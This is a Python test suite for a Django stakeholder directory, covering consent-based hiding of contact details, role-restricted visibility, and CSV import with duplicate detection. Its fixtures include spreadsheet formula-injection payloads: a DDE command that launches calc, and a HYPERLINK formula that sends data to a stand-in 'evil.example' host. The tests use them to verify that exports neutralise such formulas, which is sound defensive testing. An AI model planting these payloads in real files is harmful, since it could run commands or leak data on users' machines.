"""The stakeholder directory: consent hides contact details at once, filters, bounded queries, import."""

import csv
import html
import io

import pytest
from django.utils import timezone

from cities.csvsafe import safe_cell
from relationships import services
from relationships.contacts_csv import read_contacts
from relationships.models import ImportStatus, Stakeholder, StakeholderImport


def _with_consent(s):
    return services.stakeholder_consent_record(
        stakeholder=s, wording="May contact me", how_to_withdraw="Tell staff"
    )


@pytest.mark.django_db
def test_withdrawal_hides_contact_details_at_once_everywhere(
    client_as, city, city_page, make_relationship, today
):
    client = client_as(city, "lead")
    r = make_relationship(
        city, owner=client.user, email="pastor@example.org", phone="555-0100", district="North"
    )
    s = r.stakeholder
    pages = [city_page("directory"), city_page("stakeholder_detail", s.pk), city_page("readiness")]
    for url in pages:
        assert "pastor@example.org" not in client.get(url).content.decode(), url  # no consent yet
    _with_consent(s)
    for url in pages:
        assert "pastor@example.org" in client.get(url).content.decode(), url
    response = client.post(city_page("stakeholder_withdraw", s.pk))
    assert response.status_code == 302
    for url in pages:
        page = client.get(url).content.decode()
        assert "pastor@example.org" not in page and "555-0100" not in page, url
    page = client.get(city_page("stakeholder_detail", s.pk)).content.decode()
    assert "consent withdrawn" in page.lower()
    s.refresh_from_db()
    assert not s.contact_visible and s.consent_withdrawn_at is not None
    # Recording consent again shows them again.
    client.post(
        city_page("stakeholder_consent", s.pk),
        {"wording": "Agreed again", "how_to_withdraw": "Email", "given_on": today.isoformat()},
    )
    s.refresh_from_db()
    assert s.contact_visible


@pytest.mark.django_db
def test_viewers_never_see_contact_details(client_as, city, city_page, make_stakeholder):
    s = _with_consent(make_stakeholder(city, email="youth@example.org"))
    viewer = client_as(city, "viewer")
    page = viewer.get(city_page("stakeholder_detail", s.pk)).content.decode()
    assert "youth@example.org" not in page


@pytest.mark.django_db
def test_empty_consent_form_is_refused_with_a_message(client_as, city, city_page, make_stakeholder):
    s = make_stakeholder(city)
    response = client_as(city, "staff").post(city_page("stakeholder_consent", s.pk), {"wording": ""})
    assert response.status_code == 400
    assert "This field is required" in response.content.decode()


@pytest.mark.django_db
def test_create_and_edit_a_stakeholder(client_as, city, city_page, make_stakeholder):
    client = client_as(city, "staff")
    org = make_stakeholder(city, name="First Baptist", kind="organisation")
    response = client.post(
        city_page("stakeholder_new"),
        {
            "kind": "person",
            "name": "Rev. Ada Jones",
            "organisation": org.pk,
            "group": "faith",
            "district": "Eastside",
            "email": "ada@example.org",
            "preferred_language": "English",
        },
    )
    assert response.status_code == 302
    s = Stakeholder.objects.get(name="Rev. Ada Jones")
    assert s.city == city and s.organisation == org and s.created_by == client.user
    response = client.post(
        city_page("stakeholder_edit", s.pk),
        {"kind": "person", "name": "Rev. Ada Jones-Smith", "group": "faith", "district": "Eastside"},
    )
    assert response.status_code == 302
    s.refresh_from_db()
    assert s.name == "Rev. Ada Jones-Smith" and s.organisation is None
    # Empty form: a clear message, status 400, nothing saved.
    response = client.post(city_page("stakeholder_new"), {})
    assert response.status_code == 400 and "This field is required" in response.content.decode()


@pytest.mark.django_db
def test_another_citys_organisation_is_refused(client_as, city, other_city, city_page, make_stakeholder):
    foreign = make_stakeholder(other_city, name="Elsewhere Org", kind="organisation")
    client = client_as(city, "lead")
    response = client.post(
        city_page("stakeholder_new"),
        {"kind": "person", "name": "Sneaky", "organisation": foreign.pk, "group": "faith"},
    )
    assert response.status_code == 400
    assert not Stakeholder.objects.filter(name="Sneaky").exists()


@pytest.mark.django_db
def test_directory_filters_and_paginates_in_a_fixed_number_of_queries(
    client_as, city, other_city, city_page, make_stakeholder, django_assert_max_num_queries
):
    client = client_as(city, "lead")
    org = make_stakeholder(city, name="Youth Alliance", kind="organisation", group="youth")
    Stakeholder.objects.bulk_create(
        [
            Stakeholder(
                city=city,
                name=f"Person {i:03}",
                group="youth" if i % 2 else "faith",
                district="North" if i % 3 else "South",
                organisation=org,
                email=f"p{i}@example.org",
            )
            for i in range(120)
        ]
    )
    make_stakeholder(other_city, name="Person from elsewhere", group="youth")
    for params in ({}, {"group": "youth"}, {"district": "South", "page": "2"}, {"q": "person 00"}):
        with django_assert_max_num_queries(12):  # 11 for the page, 1 for its audit log entry
            response = client.get(city_page("directory"), params)
        assert response.status_code == 200
    page = client.get(city_page("directory"), {"group": "youth"}).content.decode()
    assert "Person 001" in page and "Person 000" not in page and "elsewhere" not in page
    assert "Page 1 of" in page
    # htmx asks for the results only.
    fragment = client.get(
        city_page("directory"), {"group": "youth"}, headers={"HX-Request": "true"}
    ).content.decode()
    assert 'id="results"' in fragment and "<html" not in fragment


# --- CSV import ------------------------------------------------------------------------------------

CSV = (
    "Name,Email,Phone,Group,District,Language,Organisation,Consent\n"
    "Rev. Ada Jones,ada@example.org,555-0100,Faith leaders,Eastside,English,,yes\n"
    "Marco Diaz,MARCO@example.org,,youth,Westside,Spanish,,no\n"
    "Marco Díaz,,,youth,Westside,Spanish,,\n"  # same name as line 3, no email: duplicate of that line
    ",nobody@example.org,,faith,,,,\n"  # no name: bad
    "Lee Park,not-an-email,,faith,,,,\n"  # bad email
    "Sam Hill,sam@example.org,,astronauts,,,,\n"  # unknown group
    "Too,many,values,here,x,y,z,w,extra\n"  # ragged
    "Existing Person,EXISTING@example.org,,faith,,,,\n"  # same email as the directory
    "Pat Known,pat.other@example.org,,faith,,,,\n"  # same name, another email: possible duplicate
    "=cmd|' /C calc'!A0,,,faith,,,,\n"  # imported as text; escaped in the report
)


@pytest.mark.django_db
def test_csv_import_previews_then_confirms_and_loses_nothing(client_as, city, city_page, make_stakeholder):
    make_stakeholder(city, name="Someone Already", email="existing@example.org")
    known = make_stakeholder(city, name="Pat Known", email="pat@example.org")
    client = client_as(city, "staff")
    upload = io.BytesIO(CSV.encode("utf-8"))
    upload.name = "contacts.csv"
    response = client.post(city_page("stakeholder_import"), {"file": upload})
    assert response.status_code == 302
    batch = StakeholderImport.objects.get()
    before = Stakeholder.objects.for_city(city).count()
    page = client.get(response["Location"]).content.decode()
    assert "3 new" in page and "3 duplicates" in page and "4 that cannot be imported" in page
    assert "is not a valid email address" in page and "astronauts" in page and "9 values" in page
    assert Stakeholder.objects.for_city(city).count() == before  # nothing added before confirming
    verdicts = {row["line"]: row["verdict"] for row in batch.rows}
    assert verdicts == {
        2: "new",
        3: "new",
        4: "duplicate",
        5: "bad",
        6: "bad",
        7: "bad",
        8: "bad",
        9: "duplicate",
        10: "duplicate",
        11: "new",
    }
    # Confirm, ticking the possible duplicate "Pat Known" (line 10) to add anyway.
    response = client.post(city_page("import_preview", batch.pk), {"confirm": "1", "include": ["10"]})
    assert response.status_code == 302
    batch.refresh_from_db()
    assert batch.status == ImportStatus.DONE and batch.created_count == 4
    assert Stakeholder.objects.for_city(city).count() == before + 4
    ada = Stakeholder.objects.get(name="Rev. Ada Jones")
    assert ada.group == "faith" and ada.district == "Eastside" and ada.contact_visible
    assert not Stakeholder.objects.get(email="marco@example.org").contact_visible  # no consent in the file
    assert Stakeholder.objects.filter(name="Pat Known").count() == 2 and known.pk
    # The report of skipped lines holds every line not added, with its reason and original values.
    report = client.get(city_page("import_report", batch.pk))
    assert report["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(_body(report))))
    assert rows[0][:3] == ["line", "verdict", "reason"]
    assert sorted(int(r[0]) for r in rows[1:]) == [4, 5, 6, 7, 8, 9]
    assert any("not-an-email" in r for r in rows)
    # Confirming twice adds nothing more.
    client.post(city_page("import_preview", batch.pk), {"confirm": "1"})
    assert Stakeholder.objects.for_city(city).count() == before + 4


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", "The submitted file is empty"),
        (b"\n\n", "The file is empty"),
        (b"email,phone\nx@example.org,1\n", "No 'name' column"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00IHDR", "does not look like a CSV"),
    ],
)
def test_unreadable_files_get_a_clear_message(client_as, city, city_page, content, message):
    upload = io.BytesIO(content)
    upload.name = "contacts.csv"
    response = client_as(city, "lead").post(city_page("stakeholder_import"), {"file": upload})
    assert response.status_code == 400
    assert message in html.unescape(response.content.decode())
    assert not StakeholderImport.objects.exists()


def test_excel_utf16_and_semicolons_are_read():
    raw = "Name;Email;Group\nJosé Núñez;jose@example.org;faith\n".encode("utf-16")
    header, rows = read_contacts(raw)
    assert header == ["Name", "Email", "Group"]
    assert rows[0].fields["name"] == "José Núñez"


def test_unterminated_quote_is_a_bad_line_not_a_silent_merge():
    header, rows = read_contacts(b'name,email\n"Broken,a@example.org\nNext,b@example.org\n')
    assert rows[-1].verdict == "bad"


def _body(response) -> str:
    """The text of a CSV download, streamed or not, without its byte order mark."""
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return content.decode("utf-8-sig")


def test_report_cells_cannot_run_as_formulas():
    # The skipped lines are written through cities/csvsafe.py, like every other export.
    assert safe_cell("=1+1") == "'=1+1"
    assert safe_cell("\tx") == "'\tx"
    assert safe_cell("@SUM(A1)") == "'@SUM(A1)"
    assert safe_cell("Ada") == "Ada"


FORMULAS = [
    ' =HYPERLINK("http://evil.example/?leak","Open")',  # a formula behind leading whitespace
    "\uff1d1+1",  # a full-width equals sign
    " @SUM(1)",
    "\t=1+1",
    "=cmd|' /C calc'!A0",
]


@pytest.mark.django_db
def test_skipped_lines_report_neutralises_formulas_hidden_behind_spaces_or_full_width_signs(
    client_as, city, city_page
):
    client = client_as(city, "lead")
    rows = [["Name", "Email", "Note"]] + [[f, "not-an-email", f] for f in FORMULAS]
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    batch = services.stakeholder_import_preview(
        city=city, filename="contacts.csv", raw=buffer.getvalue().encode(), by=client.user
    )
    report = client.get(city_page("import_report", batch.pk))
    assert report.status_code == 200 and report["Content-Type"].startswith("text/csv")
    lines = list(csv.reader(io.StringIO(_body(report))))
    assert lines[0] == ["line", "verdict", "reason", "Name", "Email", "Note"]
    cells = {cell for line in lines[1:] for cell in line[3:]}
    for formula in FORMULAS:
        assert "'" + formula in cells, formula
        assert formula not in cells, formula


@pytest.mark.django_db
def test_cancelled_import_adds_nothing(client_as, city, city_page):
    client = client_as(city, "lead")
    batch = services.stakeholder_import_preview(city=city, filename="c.csv", raw=b"name\nA\n", by=client.user)
    client.post(city_page("import_preview", batch.pk), {"cancel": "1"})
    batch.refresh_from_db()
    assert batch.status == ImportStatus.CANCELLED
    assert not Stakeholder.objects.for_city(city).exists()
    assert timezone.now()


@pytest.mark.django_db
def test_withdrawn_contact_details_cannot_be_found_or_seen_anywhere(
    client_as, city, city_page, make_stakeholder
):
    s = _with_consent(
        make_stakeholder(city, name="Quiet Person", email="quiet@example.org", phone="555-0199")
    )
    client = client_as(city, "lead")
    assert "Quiet Person" in client.get(city_page("directory"), {"q": "quiet@"}).content.decode()
    services.stakeholder_consent_withdraw(stakeholder=s)
    # Not by searching the email, not in the edit form; editing keeps the stored details.
    assert "Quiet Person" not in client.get(city_page("directory"), {"q": "quiet@"}).content.decode()
    form = client.get(city_page("stakeholder_edit", s.pk)).content.decode()
    assert "quiet@example.org" not in form and "555-0199" not in form
    response = client.post(
        city_page("stakeholder_edit", s.pk),
        {"kind": "person", "name": "Quiet Person", "group": "faith", "preferred_language": "Spanish"},
    )
    assert response.status_code == 302
    s.refresh_from_db()
    assert s.email == "quiet@example.org" and s.preferred_language == "Spanish"
    # A viewer cannot find people by email at all.
    _with_consent(make_stakeholder(city, name="Open Person", email="open@example.org"))
    viewer = client_as(city, "viewer")
    assert "Open Person" not in viewer.get(city_page("directory"), {"q": "open@"}).content.decode()


@pytest.mark.django_db
def test_a_contact_added_between_preview_and_confirm_is_not_doubled(
    client_as, city, city_page, make_stakeholder
):
    client = client_as(city, "lead")
    batch = services.stakeholder_import_preview(
        city=city,
        filename="c.csv",
        by=client.user,
        raw=b"name,email\nLate Comer,late@example.org\nOther,o@example.org\n",
    )
    make_stakeholder(city, name="Someone", email="LATE@example.org")
    services.stakeholder_import_confirm(batch=batch, by=client.user)
    batch.refresh_from_db()
    assert batch.created_count == 1
    assert Stakeholder.objects.filter(email__iexact="late@example.org").count() == 1
    late = next(r for r in batch.rows if r["fields"]["name"] == "Late Comer")
    assert late["verdict"] == "duplicate" and "since the file was checked" in late["reason"]
